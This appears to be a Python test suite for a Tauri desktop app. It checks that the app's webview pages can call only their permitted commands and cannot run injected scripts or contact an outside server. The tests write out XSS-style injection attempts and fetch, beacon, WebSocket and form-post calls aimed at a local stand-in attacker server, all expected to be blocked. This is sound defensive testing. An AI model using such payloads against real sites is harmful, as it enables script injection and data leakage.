"""What a page can do that is no longer ours: a stranger's script in it reaches nothing but the commands of its window."""

import http.server
import json
import threading
import unittest
import urllib.request

from case import DesktopTest
from driver import DrivenApp
from simulator import ROOT

# Calls every command given, and tells of each how it ended.
INVOKE = """
const found = {};
for (const command of args[0]) {
  try {
    await Promise.race([
      window.__TAURI_INTERNALS__.invoke(command, {}),
      new Promise((_, late) => setTimeout(() => late(new Error("no answer")), 5000)),
    ]);
    found[command] = "done";
  } catch (error) {
    found[command] = typeof error === "string" ? error : JSON.stringify(error?.message ?? error);
  }
}
return found;
"""
# What the pages are meant to call. They are called without arguments here, which Tauri complains of.
WANTED = {"earshot", "plugin:event|listen", "plugin:event|unlisten"}
REFUSALS = ("not allowed", "not found", "Command not found")


def registered():
    """Every command that Tauri and our plugins know, as the build wrote them down."""
    manifests = json.loads((ROOT / "gen/schemas/acl-manifests.json").read_text())
    for plugin, manifest in manifests.items():
        for permission in manifest["permissions"].values():
            for command in permission["commands"]["allow"]:
                if plugin == "__app-acl__":
                    yield command
                else:
                    yield f"plugin:{plugin.removeprefix('core:')}|{command}"


class Stranger:
    """Somebody else's web server: counts who comes."""

    def __init__(self):
        self.visits = visits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                visits.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_):
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self):
        self._server.shutdown()
        self._server.server_close()


class Page(DesktopTest):
    def driven(self, *arguments):
        app = DrivenApp(self.folder / "app", *arguments, environment=self.environment())
        self.apps.append(app)
        app.go_to("main")
        return app

    def assert_refused(self, app, commands):
        found = app.run(INVOKE, sorted(commands))
        self.assertEqual(set(found), set(commands))
        for command, ending in found.items():
            self.assertTrue(any(each in ending for each in REFUSALS), f"{command} ended with: {ending}")

    def test_a_page_can_call_nothing_but_what_its_window_is_for(self):
        app = self.driven("--practice")
        commands = set(registered()) - WANTED
        self.assertGreater(len(commands), 150, "the build wrote down fewer commands than Tauri alone has")
        for command in ("plugin:window|close", "plugin:store|load", "plugin:event|emit"):
            self.assertIn(command, commands)
        # On other systems this plugin is there too.
        commands |= {"plugin:autostart|enable", "plugin:autostart|disable"}
        self.assert_refused(app, commands)
        # The same way does lead to what the page is for, or the test would prove nothing.
        view = app.run("return await window.__TAURI_INTERNALS__.invoke('earshot', {command: {name: 'view'}})")
        self.assertEqual(view["name"], "view")
        self.until("the pop-up is built", lambda: len(app.windows()) == 2, 30)
        app.go_to("popup")
        self.assert_refused(app, commands)

    def test_the_pop_up_cannot_do_what_is_for_the_main_window(self):
        app = self.driven("--practice")
        self.until("the pop-up is built", lambda: len(app.windows()) == 2, 30)
        app.go_to("popup")
        form = {"region": "custom", "loginUrl": "http://127.0.0.1:1", "apiUrl": "http://127.0.0.1:1", "clientId": "x"}
        mains = [
            {"name": "sign_in", "form": form},
            {"name": "sign_out"},
            {"name": "practice"},
            {"name": "regions"},
            {"name": "cancel_sign_in"},
            {"name": "set_on_queue", "on": False},
            {"name": "set_presence", "id": "x"},
            {"name": "set_sound", "ring": False, "volume": 0},
            {"name": "forget_missed", "id": "x"},
            {"name": "try_ring"},
        ]
        call = "return await window.__TAURI_INTERNALS__.invoke('earshot', {command: args[0]}).then("
        for command in mains:
            code = app.run(call + "() => 'done', (error) => error.code ?? error)", command)
            self.assertEqual(code, "command.forbidden", command["name"])
        self.assertEqual(app.run(call + "() => 'done', (error) => error.code ?? error)", {"name": "view"}), "done")

    def test_no_script_of_a_strangers_runs_and_nothing_reaches_a_stranger(self):
        stranger = Stranger()
        self.addCleanup(stranger.close)
        app = self.driven()
        home = app.address()
        # Each says what it came to; `pause` lets a load that was begun come to something.
        tries = {
            "an inline script": """
                const script = document.createElement('script');
                script.textContent = 'window.strange = true';
                document.head.append(script);
                await pause();
                return window.strange === true""",
            "a handler in the markup": """
                const div = document.createElement('div');
                div.innerHTML = '<img src="x" onerror="window.strange = true">';
                document.body.append(div);
                await pause();
                return window.strange === true""",
            "eval": "try { return eval('1 + 1') === 2 } catch { return false }",
            "a function made of text": "try { return new Function('return true')() } catch { return false }",
            "a script of data": """
                const script = document.createElement('script');
                script.src = 'data:text/javascript,window.strange=true';
                document.head.append(script);
                await pause();
                return window.strange === true""",
            "a script from elsewhere": """
                const script = document.createElement('script');
                const loaded = new Promise((end) => { script.onload = () => end(true); script.onerror = () => end(false) });
                script.src = stranger + '/script.js';
                document.head.append(script);
                return await Promise.race([loaded, pause()]) === true""",
            "fetch": "return await fetch(stranger + '/fetch').then(() => true, () => false)",
            "a beacon": "navigator.sendBeacon(stranger + '/beacon', 'x'); await pause(); return false",
            "a socket": """
                try {
                  const socket = new WebSocket(stranger.replace('http', 'ws') + '/socket');
                  const opened = new Promise((end) => { socket.onopen = () => end(true); socket.onerror = () => end(false) });
                  return await Promise.race([opened, pause()]) === true
                } catch { return false }""",
            "a picture": """
                const image = new Image();
                const loaded = new Promise((end) => { image.onload = () => end(true); image.onerror = () => end(false) });
                image.src = stranger + '/picture.png';
                return await Promise.race([loaded, pause()]) === true""",
            "a style": """
                const link = document.createElement('link');
                link.rel = 'stylesheet';
                link.href = stranger + '/style.css';
                document.head.append(link);
                await pause();
                return false""",
            "a frame": """
                const frame = document.createElement('iframe');
                frame.src = stranger + '/frame';
                document.body.append(frame);
                await pause();
                return false""",
            "a form": """
                const form = document.createElement('form');
                form.method = 'post';
                form.action = stranger + '/form';
                document.body.append(form);
                form.submit();
                await pause();
                return false""",
            "a new window": "const opened = window.open(stranger + '/window'); await pause(); return opened !== null",
            "another page": "setTimeout(() => { location.href = stranger + '/page' }); await pause(); return false",
        }
        before = "const stranger = args[0]; const pause = () => new Promise((end) => setTimeout(end, 300));"
        for what, script in tries.items():
            with self.subTest(what):
                self.assertIs(app.run(before + script, stranger.url), False)
                self.assertEqual(stranger.visits, [])
                self.assertEqual(app.address(), home)
                self.assertEqual(len(app.windows()), 1)
        # And the stranger would have noticed.
        with urllib.request.urlopen(stranger.url + "/control", timeout=5):
            self.assertEqual(stranger.visits, ["/control"])


if __name__ == "__main__":
    unittest.main()
